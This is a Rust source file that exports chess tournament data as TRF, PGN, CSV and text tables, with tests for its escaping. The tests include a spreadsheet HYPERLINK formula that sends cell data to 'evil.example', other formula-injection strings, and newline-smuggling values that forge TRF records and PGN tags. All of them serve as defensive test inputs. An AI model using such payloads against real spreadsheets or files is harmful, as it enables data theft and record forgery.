//! Exports of an [`Event`]: FIDE TRF-2026 (through `flagfall_pairing::trf`'s writer), PGN
//! of every game, standings as CSV, and a printable crosstable. All return text (the TRF
//! refuses an event of more than 9,999 players, [`ExportError`]); writing it anywhere is
//! the caller's business.

use std::fmt::Write as _;

use flagfall_core::timecontrol::{Delay, TimeControl};
use flagfall_pairing::trf::{self, HeaderLine, ResultCode, Trf, TrfPlayer, TrfRoundEntry};

use crate::event::{ByeKind, Cell, Event, EventError, Format, RecordedResult};
use crate::numbers::{columns, grouped};
use crate::spelling::Spelled as _;
use crate::tiebreak::{Colour, Standings};

fn bye_code(kind: ByeKind) -> ResultCode {
    match kind {
        ByeKind::Pab => ResultCode::PairingBye,
        ByeKind::Full => ResultCode::FullBye,
        ByeKind::Half => ResultCode::HalfBye,
        ByeKind::Zero => ResultCode::ZeroBye,
        // TRF-16 / lichess: `0000 - -` for a player not paired.
        ByeKind::Absent => ResultCode::ForfeitLoss,
    }
}

/// The TRF result code of one game for the player with `colour` in it.
fn game_code(result: RecordedResult, white_side: bool) -> ResultCode {
    use RecordedResult as G;
    match (result, white_side) {
        (G::Pending, _) => ResultCode::Pending,
        (G::WhiteWins, true) | (G::BlackWins, false) => ResultCode::Win,
        (G::WhiteWins, false) | (G::BlackWins, true) => ResultCode::Loss,
        (G::Draw, _) => ResultCode::Draw,
        (G::WhiteWinsByForfeit, true) | (G::BlackWinsByForfeit, false) => ResultCode::ForfeitWin,
        (G::WhiteWinsByForfeit, false) | (G::BlackWinsByForfeit, true) | (G::DoubleForfeit, _) => {
            ResultCode::ForfeitLoss
        }
    }
}

/// Ranks by player id (1-based rank per player) from standings, if computable.
fn ranks(event: &Event) -> Option<Vec<u32>> {
    let st = event.standings(None, None).ok()?;
    let mut out = vec![0; event.players.len()];
    for row in &st.rows {
        if let Some(slot) = out.get_mut(row.player) {
            *slot = row.rank;
        }
    }
    Some(out)
}

/// Most players a TRF numbers: 9,999, its starting rank (columns 5-8 of a player's
/// record) and each round's opponent having four columns
/// ([`flagfall_pairing::trf::MAX_NUMBER`]). An event may hold more
/// ([`crate::event::MAX_PLAYERS`]); its TRF export is refused.
pub const TRF_MAX_PLAYERS: usize = trf::MAX_NUMBER as usize;

/// Why an export cannot be written.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExportError {
    /// More players than a TRF can number ([`TRF_MAX_PLAYERS`]).
    #[error(
        "a TRF numbers at most {} players (its starting rank has four columns); this event has {}",
        grouped(TRF_MAX_PLAYERS),
        grouped(*players)
    )]
    TrfTooManyPlayers {
        /// The event's players.
        players: usize,
    },
}

/// The event as FIDE TRF-2026. Every round paired so far is written; a pending game is
/// written with its opponent and colour and a blank result (**interpretation**: TRF has
/// no "not yet played" code; a blank result beside an opponent is how pairing programs
/// write the round being played, and [`Trf::parse`] reads it back as
/// [`ResultCode::Pending`]).
///
/// A Double Swiss match takes two TRF columns, one per game (TRF has one result per
/// player per column): match *r* is written as columns 2r−1 and 2r, with the colours of
/// each game, and a `###` remark says so. **Interpretation** of TRF-2026 for C.04.5.
///
/// # Errors
/// [`ExportError::TrfTooManyPlayers`] for an event of more than [`TRF_MAX_PLAYERS`]
/// players: a starting rank of five digits does not fit the TRF's four columns, and
/// nothing is written rather than a file whose columns are shifted.
pub fn trf(event: &Event) -> Result<String, ExportError> {
    // Pairing numbers are 1 to the number of players (`Event` renumbers on every entry
    // and removal), so the count bounds every starting rank and opponent written.
    if event.players.len() > TRF_MAX_PLAYERS {
        return Err(ExportError::TrfTooManyPlayers {
            players: event.players.len(),
        });
    }
    let games = event.format.games_per_round();
    let ranks = ranks(event);
    let mut headers = Vec::new();
    let kind = match event.format {
        Format::RoundRobin => "Individual: Round-Robin",
        Format::DoubleRoundRobin => "Individual: Double Round-Robin",
        Format::RoundRobinMatches => "Individual: Round-Robin of two-game matches",
        Format::Swiss => "Individual: Swiss-System (FIDE Dutch)",
        Format::DoubleSwiss => "Individual: Double-Swiss (FIDE C.04.5)",
        Format::UsSwiss => "Individual: Swiss-System (US Chess)",
    };
    let info = &event.report;
    let mut header = |tag: &str, text: Option<String>| {
        if let Some(text) = text {
            headers.push(HeaderLine {
                tag: tag.into(),
                text,
            });
        }
    };
    header("022", event.site.clone().or_else(|| info.city.clone()));
    header("032", info.federation.clone());
    // TRF dates are written YYYY/MM/DD.
    let trf_date = |d: &String| d.replace(['-', '.'], "/");
    header("042", event.date.as_ref().map(trf_date));
    header(
        "052",
        info.end_date.as_ref().or(event.date.as_ref()).map(trf_date),
    );
    header("062", Some(event.players.len().to_string()));
    header(
        "072",
        Some(
            event
                .players
                .iter()
                .filter(|p| p.rating.is_some() && p.fide_id.is_some())
                .count()
                .to_string(),
        ),
    );
    header("092", Some(kind.into()));
    header("102", info.chief_arbiter.clone());
    header("112", info.deputy_arbiters.clone());
    if let Some(tc) = &event.time_control {
        headers.push(HeaderLine {
            tag: "122".into(),
            text: tc.clone(),
        });
    }
    if games == 2 {
        headers.push(HeaderLine {
            tag: "###".into(),
            text: "two-game matches: match r is written as columns 2r-1 (game 1) and 2r (game 2)"
                .into(),
        });
    }
    let pab = event.pab_value();
    let players = event
        .players
        .iter()
        .enumerate()
        .map(|(row, p)| {
            let mut rounds = Vec::new();
            for r in 1..=event.rounds_paired() {
                match event.cell(p.id, r) {
                    Cell::Bye(kind) => {
                        // A pairing-allocated bye worth less than a win of every game
                        // (a Double Swiss 1½) is spread over the match's columns so the
                        // columns add up to the player's points: `U` for each win it
                        // holds, `H` for a half point, `Z` for the rest (docs/events.md).
                        for game in 0..games {
                            let result = match kind {
                                ByeKind::Pab if 2 * (game + 1) <= pab => ResultCode::PairingBye,
                                ByeKind::Pab if 2 * game < pab => ResultCode::HalfBye,
                                ByeKind::Pab => ResultCode::ZeroBye,
                                _ => bye_code(kind),
                            };
                            rounds.push(Some(TrfRoundEntry {
                                opponent: None,
                                colour: None,
                                result,
                            }));
                        }
                    }
                    Cell::Paired {
                        board, opponent, ..
                    } => {
                        for (g, game) in board.games.iter().enumerate() {
                            let (w, _) = board.players_of_game(g);
                            let white_side = w == p.id;
                            let colour = if white_side {
                                Colour::White
                            } else {
                                Colour::Black
                            };
                            rounds.push(Some(TrfRoundEntry {
                                opponent: Some(opponent),
                                colour: Some(colour),
                                result: game_code(game.result, white_side),
                            }));
                        }
                    }
                }
            }
            let half = event.score_after(p.id, event.rounds_paired());
            TrfPlayer {
                number: p.id,
                // TRF writes m and w.
                sex: p.sex.map(|c| match c.to_ascii_lowercase() {
                    'f' | 'w' => 'w',
                    _ => 'm',
                }),
                title: p.title.clone().unwrap_or_default(),
                name: p.name.clone(),
                rating: p.rating,
                federation: p.federation.clone().unwrap_or_default(),
                fide_id: p.fide_id,
                birth_date: p.birth.clone().unwrap_or_default(),
                points_tenths: half * 5,
                rank: ranks.as_ref().and_then(|r| r.get(row).copied()),
                rounds,
            }
        })
        .collect();
    let t = Trf {
        name: Some(event.name.clone()),
        total_rounds: Some(event.planned_rounds() * games),
        initial_colour: Some(event.initial_colour),
        headers,
        players,
    };
    Ok(t.to_trf_string())
}

/// A PGN tag value (PGN Standard §8.1.1): `\` and `"` escaped, and a control character
/// or line separator written as a space, as `flagfall_game::pgn::tag_value` does: the
/// input rules ([`crate::text`]) keep newlines out of an event, but a file stored before
/// them or edited by hand may hold one, and it must not end the tag.
fn pgn_escape(s: &str) -> String {
    crate::text::one_line(s)
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
}

/// The PGN `Date` tag: the event's date when it is one (`YYYY.MM.DD`), else unknown.
fn pgn_date(date: Option<&str>) -> String {
    match date.map(|d| crate::text::date("date", d)) {
        Some(Ok(d)) => d.replace('-', "."),
        _ => "????.??.??".into(),
    }
}

/// The event's PGN `Site` and `Date` tag lines (`[Site "?"]` and `[Date "????.??.??"]`
/// where it has none), as [`pgn`] writes them for every game: the server's games' PGN
/// takes them too.
pub fn pgn_site_date(event: &Event) -> String {
    format!(
        "[Site \"{}\"]\n[Date \"{}\"]\n",
        pgn_escape(event.site.as_deref().unwrap_or("?")),
        pgn_date(event.date.as_deref())
    )
}

/// The PGN `TimeControl` tag (seconds, `+increment`); delays have no PGN notation, so
/// the event's own notation goes in a `FlagfallTimeControl` tag as well.
fn pgn_time_control(tc: &str) -> Option<String> {
    let tc: TimeControl = tc.parse().ok()?;
    let base = tc.base_ms / 1000;
    Some(match tc.delay {
        Delay::Increment { ms } => format!("{base}+{}", ms / 1000),
        _ => base.to_string(),
    })
}

/// Every game of the event as PGN, in round and board order. A game played on paper has
/// only its headers and result; a game with recorded moves has its movetext. Forfeits
/// carry `[Termination "forfeit"]` and no moves; pending games have result `*`.
pub fn pgn(event: &Event) -> String {
    pgn_of(event, None)
}

/// The PGN `Round` tag of game `game` (0-based) of board `board` in round `round`, one
/// rule for every evening, its games on paper or on the server: `round.board` (`3.5`),
/// and on a board of two games (double Swiss, matches) `round.board.game` (`3.5.2`).
/// The round is the number before the first dot, as lichess's Broadcast reads it; the
/// board is in a `Board` tag as well.
pub fn pgn_round_tag(round: u32, board: u32, game: usize, games: usize) -> String {
    if games > 1 {
        format!("{round}.{board}.{}", game + 1)
    } else {
        format!("{round}.{board}")
    }
}

/// [`pgn`] of one round (`Some(r)`) or of all of them: a round's PGN is what a
/// Broadcast reads while the round is played (pending games with result `*`).
pub fn pgn_of(event: &Event, only: Option<u32>) -> String {
    let mut out = String::new();
    for round in &event.round_list {
        if only.is_some_and(|r| r != round.number) {
            continue;
        }
        for board in &round.boards {
            for (g, game) in board.games.iter().enumerate() {
                let (w, b) = board.players_of_game(g);
                let (Ok(wp), Ok(bp)) = (event.player(w), event.player(b)) else {
                    continue;
                };
                let round_tag = pgn_round_tag(round.number, board.number, g, board.games.len());
                let _ = writeln!(out, "[Event \"{}\"]", pgn_escape(&event.name));
                let _ = writeln!(
                    out,
                    "[Site \"{}\"]",
                    pgn_escape(event.site.as_deref().unwrap_or("?"))
                );
                let _ = writeln!(out, "[Date \"{}\"]", pgn_date(event.date.as_deref()));
                let _ = writeln!(out, "[Round \"{round_tag}\"]");
                let _ = writeln!(out, "[White \"{}\"]", pgn_escape(&wp.name));
                let _ = writeln!(out, "[Black \"{}\"]", pgn_escape(&bp.name));
                let _ = writeln!(out, "[Result \"{}\"]", game.result.pgn());
                let _ = writeln!(out, "[Board \"{}\"]", board.number);
                if let Some(r) = wp.rating {
                    let _ = writeln!(out, "[WhiteElo \"{r}\"]");
                }
                if let Some(r) = bp.rating {
                    let _ = writeln!(out, "[BlackElo \"{r}\"]");
                }
                if let Some(tc) = &event.time_control {
                    if let Some(t) = pgn_time_control(tc) {
                        let _ = writeln!(out, "[TimeControl \"{t}\"]");
                    }
                    let _ = writeln!(out, "[FlagfallTimeControl \"{}\"]", pgn_escape(tc));
                }
                let forfeit = !game.result.is_played() && game.result != RecordedResult::Pending;
                if forfeit {
                    let _ = writeln!(out, "[Termination \"forfeit\"]");
                }
                if let Some(rs) = &event.ruleset {
                    let _ = writeln!(out, "[Ruleset \"{}\"]", pgn_escape(rs));
                }
                out.push('\n');
                match &game.moves {
                    Some(m) if !m.trim().is_empty() => {
                        let _ = writeln!(out, "{} {}", m.trim(), game.result.pgn());
                    }
                    _ if game.result == RecordedResult::DoubleForfeit => {
                        let _ = writeln!(out, "{{double forfeit: neither player played}} *");
                    }
                    _ if forfeit => {
                        let _ = writeln!(out, "{{won by forfeit}} {}", game.result.pgn());
                    }
                    _ => {
                        let _ = writeln!(out, "{}", game.result.pgn());
                    }
                }
                out.push('\n');
            }
        }
    }
    out
}

/// A text cell of a CSV file (a name), neutralised against formula injection as
/// OWASP's "CSV Injection" page says: a value that a spreadsheet would read as a formula
/// (beginning, after any blanks, with `=`, `+`, `-` or `@`, or beginning with a tab,
/// carriage return or another control character) is written quoted with a single quote
/// in front of it inside the quotes (`"'=1+2"`), so Excel, LibreOffice and Google Sheets
/// show it as text. A value holding `,`, `;` (the separator of spreadsheets in many
/// locales), `"` or a line end is quoted too (RFC 4180, `"` doubled), so no part of it
/// can start a cell of its own; other values are written as they are. Numbers are never
/// written through this: [`csv_number`].
pub fn csv_text(s: &str) -> String {
    let formula = matches!(s.trim_start().chars().next(), Some('=' | '+' | '-' | '@'))
        || s.chars().next().is_some_and(char::is_control);
    if formula {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', ';', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// A number cell of a CSV file, written as the number it is (`-12`, `3.5`): a negative
/// tiebreak or rating change stays a number a spreadsheet can add up.
pub fn csv_number(n: impl std::fmt::Display) -> String {
    n.to_string()
}

/// Standings as CSV: `rank,number,name,rating,points,<one column per tiebreak>`. The
/// name is the one text cell ([`csv_text`]: quoted, a formula neutralised); the others
/// are numbers ([`csv_number`]), a tiebreak's negative value included (`PN` is `-12`
/// for player 12).
pub fn standings_csv(event: &Event, standings: &Standings) -> String {
    let mut out = String::from("rank,number,name,rating,points");
    for tb in &standings.tiebreaks {
        let _ = write!(out, ",{}", csv_text(&tb.to_string()));
    }
    out.push('\n');
    for row in &standings.rows {
        let p = &event.players[row.player];
        let _ = write!(
            out,
            "{},{},{},{},{}",
            csv_number(row.rank),
            csv_number(p.id),
            csv_text(&p.name),
            p.rating.map(csv_number).unwrap_or_default(),
            csv_number(row.score)
        );
        for v in &row.values {
            let _ = write!(out, ",{}", v.map(csv_number).unwrap_or_default());
        }
        out.push('\n');
    }
    out
}

/// Columns of a pairing number or a rank in the text tables: 4, or 5 for an event of
/// 10,000 players.
fn number_width(event: &Event) -> usize {
    columns(event.players.len(), 4)
}

/// Standings as an aligned text table.
pub fn standings_text(event: &Event, standings: &Standings, after_round: u32) -> String {
    let no_w = number_width(event);
    let mut out = String::new();
    let _ = writeln!(out, "{} — standings after round {after_round}", event.name);
    let name_w = event
        .players
        .iter()
        .map(|p| p.name.chars().count())
        .max()
        .unwrap_or(4)
        .max(4);
    let _ = write!(
        out,
        "{:>no_w$} {:>no_w$}  {:<name_w$} {:>6} {:>6}",
        "Rank", "No", "Name", "Rtg", "Pts"
    );
    for tb in &standings.tiebreaks {
        let _ = write!(out, " {:>9}", tb.to_string());
    }
    out.push('\n');
    for row in &standings.rows {
        let p = &event.players[row.player];
        let _ = write!(
            out,
            "{:>no_w$} {:>no_w$}  {:<name_w$} {:>6} {:>6}",
            row.rank,
            p.id,
            p.name,
            p.rating
                .map(|r| r.to_string())
                .unwrap_or_else(|| "-".into()),
            row.score.to_string()
        );
        for v in &row.values {
            let _ = write!(
                out,
                " {:>9}",
                v.map(|v| v.to_string()).unwrap_or_else(|| "-".into())
            );
        }
        out.push('\n');
    }
    out
}

/// One crosstable cell: opponent number, colour, and the result(s) in this player's
/// view (`1`, `=`, `0`, `+`, `-`; a Double Swiss match shows both games), or the bye.
fn cell_text(event: &Event, id: u32, round: u32) -> String {
    match event.cell(id, round) {
        Cell::Bye(kind) => match kind {
            ByeKind::Pab => "PAB".into(),
            ByeKind::Full => "bye1".into(),
            ByeKind::Half => "bye½".into(),
            ByeKind::Zero => "bye0".into(),
            ByeKind::Absent => "--".into(),
        },
        Cell::Paired {
            board,
            colour,
            opponent,
        } => {
            let mut s = format!("{}{}", opponent, colour.letter());
            for (g, game) in board.games.iter().enumerate() {
                let (w, _) = board.players_of_game(g);
                let c = match game_code(game.result, w == id) {
                    _ if game.result == RecordedResult::Pending => '*',
                    ResultCode::Win => '1',
                    ResultCode::Loss => '0',
                    ResultCode::Draw => '=',
                    ResultCode::ForfeitWin => '+',
                    _ => '-',
                };
                s.push(c);
            }
            s
        }
    }
}

/// A printable crosstable: players in standings order (or pairing order if standings
/// cannot be computed yet), one column per round, and the total.
pub fn crosstable_text(event: &Event) -> Result<String, EventError> {
    let order: Vec<usize> = match event.standings(None, None) {
        Ok(st) => st.rows.iter().map(|r| r.player).collect(),
        Err(_) => (0..event.players.len()).collect(),
    };
    let rounds = event.rounds_paired();
    let name_w = event
        .players
        .iter()
        .map(|p| p.name.chars().count())
        .max()
        .unwrap_or(4)
        .max(4);
    // An opponent's number, the colour and a result a game (`12w1`, `12w=0`).
    let no_w = number_width(event);
    let cell_w = no_w + 1 + event.format.games_per_round() as usize;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{} ({}) — crosstable after {rounds} round(s)",
        event.name, event.format
    );
    let _ = write!(out, "{:>no_w$}  {:<name_w$} {:>5}", "No", "Name", "Rtg");
    for r in 1..=rounds {
        let _ = write!(out, " {:>cell_w$}", format!("R{r}"));
    }
    let _ = writeln!(out, " {:>5}", "Pts");
    for i in order {
        let p = &event.players[i];
        let _ = write!(
            out,
            "{:>no_w$}  {:<name_w$} {:>5}",
            p.id,
            p.name,
            p.rating
                .map(|r| r.to_string())
                .unwrap_or_else(|| "-".into())
        );
        for r in 1..=rounds {
            let _ = write!(out, " {:>cell_w$}", cell_text(event, p.id, r));
        }
        let _ = writeln!(
            out,
            " {:>5}",
            Event::score_text(event.score_after(p.id, rounds))
        );
    }
    Ok(out)
}

/// A round's pairings and results as printed after pairing (`event pair`, `event show`):
/// a title line, then one line per board (number, White with score before the round,
/// Black likewise, the results so far) and one per player without an opponent.
pub fn round_text(event: &Event, round: u32) -> Result<String, EventError> {
    let r = event
        .round_list
        .get((round as usize).wrapping_sub(1))
        .ok_or(EventError::UnknownRound {
            round,
            paired: event.rounds_paired(),
        })?;
    let mut out = format!(
        "Round {round} of {}{}\n",
        event.rounds,
        if r.manual {
            " (changed by the director)"
        } else {
            ""
        }
    );
    let name = |id: u32| event.player(id).map_or("?", |p| p.name.as_str());
    let pts = |id: u32| Event::score_text(event.score_after(id, round - 1));
    // Three columns for a board or a pairing number, more when the event needs them
    // (1,000 players, 1,000 boards).
    let nw = columns(event.players.len(), 3);
    let bw = columns(r.boards.len(), 3);
    for b in &r.boards {
        let results: Vec<&str> = b.games.iter().map(|g| g.result.short()).collect();
        let _ = writeln!(
            out,
            "{:>bw$}. {:>nw$} {} ({}) - {:>nw$} {} ({})   {}",
            b.number,
            b.white,
            name(b.white),
            pts(b.white),
            b.black,
            name(b.black),
            pts(b.black),
            results.join(" ")
        );
    }
    for bye in &r.byes {
        let _ = writeln!(
            out,
            "{:bw$}  {:>nw$} {}: {}",
            "",
            bye.player,
            name(bye.player),
            bye.kind.help()
        );
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::change::{Change, Origin};
    use crate::event::NewPlayer;

    const HOSTILE: [&str; 6] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+2",
        "-3+4",
        "@SUM(A1:A9)",
        "Ann;=1+1",
        "José Núñez-Müller",
    ];

    fn event() -> Event {
        let mut e = Event::new("Open, \"A\"", Format::Swiss, Some(3)).unwrap();
        for (i, name) in HOSTILE.iter().enumerate() {
            e.add_player(NewPlayer {
                name: (*name).into(),
                rating: Some(2000 - 10 * i as u32),
                ..NewPlayer::default()
            })
            .unwrap();
        }
        e.set_tiebreaks("TPN,BH").unwrap();
        let o = Origin::new("director", 0);
        e.apply(Change::PairNext, &o).unwrap();
        for b in 1..=3 {
            e.apply(
                Change::SetResults {
                    round: 1,
                    board: b,
                    results: vec![RecordedResult::WhiteWins],
                },
                &o,
            )
            .unwrap();
        }
        e
    }

    /// Reads one CSV line the way RFC 4180 does (for the test: quoted cells, `""`).
    fn cells(line: &str) -> Vec<String> {
        let mut out = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    out.last_mut().unwrap().push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => out.push(String::new()),
                (c, _) => out.last_mut().unwrap().push(c),
            }
        }
        out
    }

    #[test]
    fn csv_neutralises_formulas_and_keeps_numbers() {
        assert_eq!(csv_text("=1+2"), "\"'=1+2\"");
        assert_eq!(csv_text("  =1+2"), "\"'  =1+2\"");
        assert_eq!(
            csv_text("-12"),
            "\"'-12\"",
            "a name is text, even one like a number"
        );
        assert_eq!(csv_text("\tx"), "\"'\tx\"");
        assert_eq!(csv_text("\rx"), "\"'\rx\"");
        assert_eq!(csv_text("a;b"), "\"a;b\"");
        assert_eq!(csv_text("Ann"), "Ann");
        assert_eq!(csv_number(-12), "-12");
        let e = event();
        let st = e.standings(None, None).unwrap();
        let csv = standings_csv(&e, &st);
        let mut lines = csv.lines();
        assert_eq!(lines.next(), Some("rank,number,name,rating,points,TPN,BH"));
        let mut seen = Vec::new();
        for line in lines {
            let c = cells(line);
            assert_eq!(c.len(), 7, "{line}");
            let number: u32 = c[1].parse().unwrap();
            // TPN is minus the pairing number: a negative number, written as one.
            assert_eq!(c[5], format!("-{number}"), "{line}");
            assert!(c[5].parse::<i64>().is_ok());
            let name = &c[2];
            let original = e.player(number).unwrap().name.clone();
            if matches!(original.chars().next(), Some('=' | '+' | '-' | '@')) {
                assert_eq!(name, &format!("'{original}"), "{line}");
                assert!(
                    line.contains(",\"'"),
                    "quoted with the quote inside: {line}"
                );
            } else {
                assert_eq!(name, &original, "{line}");
            }
            seen.push(original);
        }
        seen.sort();
        let mut all: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
        all.sort();
        assert_eq!(seen, all);
    }

    #[test]
    fn trf_of_hostile_text_reads_back_through_the_pairing_parser() {
        let mut e = event();
        e.set_site(Some("Reno \"NV\"")).unwrap();
        e.set_date(Some("2026-11-28")).unwrap();
        let text = trf(&e).unwrap();
        let back = Trf::parse(&text).expect("flagfall-pairing reads it");
        assert_eq!(back.players.len(), HOSTILE.len());
        for p in &e.players {
            let q = back.player(p.id).unwrap();
            // The name field is 33 characters: a longer name is cut there.
            let column: String = p.name.chars().take(33).collect();
            assert_eq!(q.name, column.trim_end());
            assert_eq!(q.rating, p.rating);
        }
        // Old data with a newline (before the input rules) still makes one line each.
        let mut old = e.clone();
        old.site = Some("Reno\n001   99      Fake".into());
        old.report.chief_arbiter = Some("X\r\n001   98      Fake".into());
        old.players[0].name = "Ann\n001   97      Fake".into();
        let back = Trf::parse(&trf(&old).unwrap()).expect("reads");
        assert_eq!(back.players.len(), HOSTILE.len());
        assert!(back.players.iter().all(|p| p.number < 90));
    }

    #[test]
    fn the_round_printout_widens_its_numbers_for_a_thousand_players() {
        let mut e = Event::new("Big", Format::Swiss, Some(3)).unwrap();
        for i in 0..1_001u32 {
            e.add_player(NewPlayer {
                name: format!("P{i}"),
                rating: Some(2600 - i),
                ..NewPlayer::default()
            })
            .unwrap();
        }
        e.apply(Change::PairNext, &Origin::new("director", 0))
            .unwrap();
        let text = round_text(&e, 1).unwrap();
        let lines: Vec<&str> = text.lines().skip(1).collect();
        assert_eq!(lines.len(), 501, "500 boards and the bye");
        for (b, line) in e.round_list[0].boards.iter().zip(&lines) {
            // Board in 3 columns, then each pairing number in 4: "  7.  507 P506 (0) -    7 …".
            assert_eq!(line[..5].trim(), format!("{}.", b.number), "{line}");
            assert_eq!(&line[5..10], format!("{:>4} ", b.white), "{line}");
            let black = line.find(" - ").unwrap() + 3;
            assert_eq!(
                &line[black..black + 5],
                format!("{:>4} ", b.black),
                "{line}"
            );
        }
        // The bye's number stands in the white numbers' column.
        let bye = lines[500];
        let pab = e.round_list[0].byes[0].player;
        assert_eq!(&bye[..9], format!("     {pab:>4}"), "{bye}");
        // Up to 999 players the printout keeps its three columns.
        let small_event = event();
        let small = round_text(&small_event, 1).unwrap();
        let first = small.lines().nth(1).unwrap();
        let white = small_event.round_list[0].boards[0].white;
        assert!(first.starts_with(&format!("  1. {white:>3} ")), "{small}");
    }

    #[test]
    fn pgn_tags_stay_tags() {
        let mut e = event();
        e.set_site(Some("Reno \\ \"NV\"")).unwrap();
        let text = pgn(&e);
        assert!(text.contains("[Site \"Reno \\\\ \\\"NV\\\"\"]"), "{text}");
        assert!(text.contains("[Event \"Open, \\\"A\\\"\"]"), "{text}");
        // Old data with a newline: the tag stays one line.
        let mut old = e.clone();
        old.site = Some("Reno\"]\n[White \"Fake\"]".into());
        old.date = Some("2026-1\n[X".into());
        let text = pgn(&old);
        for line in text.lines().filter(|l| l.starts_with('[')) {
            assert!(line.ends_with("\"]"), "{line}");
        }
        assert!(
            !text.lines().any(|l| l.starts_with("[White \"Fake")),
            "{text}"
        );
        assert!(text.contains("[Date \"????.??.??\"]"));
        assert_eq!(
            text.lines().filter(|l| l.starts_with("[White ")).count(),
            3,
            "one White tag per game: {text}"
        );
    }
}
